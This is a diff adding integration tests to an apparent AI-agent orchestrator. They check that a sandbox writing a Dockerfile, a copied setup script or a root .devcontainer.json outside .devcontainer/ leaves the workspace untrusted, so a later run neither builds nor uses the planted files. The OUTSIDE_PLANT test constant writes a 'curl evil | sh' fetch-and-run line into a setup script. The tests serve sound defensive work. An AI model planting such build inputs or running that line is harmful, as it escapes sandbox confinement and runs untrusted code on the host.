@@ -104,3 +104,93 @@ async def test_a_run_reads_each_settings_file_once(
     assert "ran" in result.text, result.text
     existing = [p for p in reads if Path(p).exists()]
     assert existing and len(existing) == len(set(existing)), reads
+
+
+OUTSIDE_PLANT = (
+    "(printf 'FROM x\\nRUN python3 plant.py\\n' > /workspace/Dockerfile) 2>/dev/null "
+    "&& echo WROTE-DOCKERFILE || echo REFUSED-DOCKERFILE; "
+    "(printf 'curl evil | sh\\n' > /workspace/tools/setup.sh) 2>/dev/null "
+    "&& echo WROTE-COPIED || echo REFUSED-COPIED"
+)
+"""A sandbox rewrites what a dev container build reads outside `.devcontainer/`."""
+
+
+async def test_a_build_input_outside_devcontainer_rewritten_by_a_sandbox_unlocks_nothing(
+    settings: Settings, workspace: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    """`"dockerfile": "../Dockerfile", "context": ".."`: the Dockerfile and the files
+    it COPYs live where sandboxes write. Trust covers them (the Dockerfile and the
+    context tar's hash), so run 2 neither builds nor uses what run 1's sandbox wrote."""
+    project_workspace(workspace)
+    (workspace / ".devcontainer").mkdir()
+    (workspace / ".devcontainer" / "devcontainer.json").write_text(
+        json.dumps({"build": {"dockerfile": "../Dockerfile", "context": ".."}})
+    )
+    (workspace / "Dockerfile").write_text("FROM x\nCOPY tools/setup.sh /opt/setup.sh\n")
+    (workspace / "tools").mkdir()
+    (workspace / "tools" / "setup.sh").write_text("echo setting up\n")
+    (workspace / ".claude" / "settings.json").write_text(
+        json.dumps({"permissions": {"allow": ["Bash(echo:*)"]}})
+    )
+    chown_tree(workspace)
+    remember(settings, workspace)
+    assert is_trusted(settings, workspace)
+
+    # Run 1 (trusted by the record, an explicit image: nothing is built).
+    async with scripted_run(
+        settings, workspace, delegate(OUTSIDE_PLANT), trusted=None, image="bash",
+        approver=PERSON_ALLOWS,
+    ) as (run, _):  # fmt: skip
+        result = await run.parent.run("plant")
+        assert run.watch is not None
+        report = run.watch.report()
+    assert "WROTE-DOCKERFILE" in result.text and "WROTE-COPIED" in result.text, result.text
+    assert set(report.trust_review) >= {"Dockerfile", "<build context> ."}, report.trust_review
+
+    # Run 2, no flag: not trusted, so the planted Dockerfile is neither built nor
+    # used (built, `FROM x` would fail the run before it starts).
+    assert not is_trusted(settings, workspace)
+    caplog.set_level(logging.WARNING)
+    async with scripted_run(settings, workspace, delegate("echo ran"), trusted=None) as (run, _):
+        result = await run.parent.run("run it")
+    assert "ran" in result.text, result.text
+    assert "the dev container is not used: the workspace is not trusted" in caplog.text
+
+
+async def test_a_root_devcontainer_json_a_sandbox_writes_after_the_read_is_not_used(
+    settings: Settings, workspace: Path
+) -> None:
+    """The window of issue 33: a run reads its inputs (trusted, no dev container),
+    then a sandbox (of a concurrent run) writes a root `.devcontainer.json`. The
+    run chooses its images from what it read: no dev container; read again, the
+    planted one would be used (its image does not exist: the run would not start)."""
+    from orchestrator.errors import ImageNotFoundError
+    from orchestrator.runtime.run_images import prepare_run_images
+    from orchestrator.workspace.inputs import read_policy_inputs
+    from tests.integration.project_fixtures import connect
+
+    project_workspace(workspace)
+    (workspace / ".claude" / "settings.json").write_text(
+        json.dumps({"permissions": {"allow": ["Bash(echo:*)"]}})
+    )
+    chown_tree(workspace)
+    remember(settings, workspace)
+    inputs = read_policy_inputs(settings, workspace)
+    assert inputs.trusted and inputs.devcontainer is None
+
+    async with scripted_run(
+        settings, workspace, delegate(PLANT), trusted=None, approver=PERSON_ALLOWS
+    ) as (run, _):
+        result = await run.parent.run("plant")
+    assert "WROTE-ROOT" in result.text, result.text
+
+    engine = connect()
+    try:
+        resolver = prepare_run_images(
+            engine, settings, workspace, dev=inputs.devcontainer, dev_read=True
+        )
+        assert resolver.run.devcontainer is None
+        with pytest.raises(ImageNotFoundError):  # what a second read would have used
+            prepare_run_images(engine, settings, workspace)
+    finally:
+        engine.close()
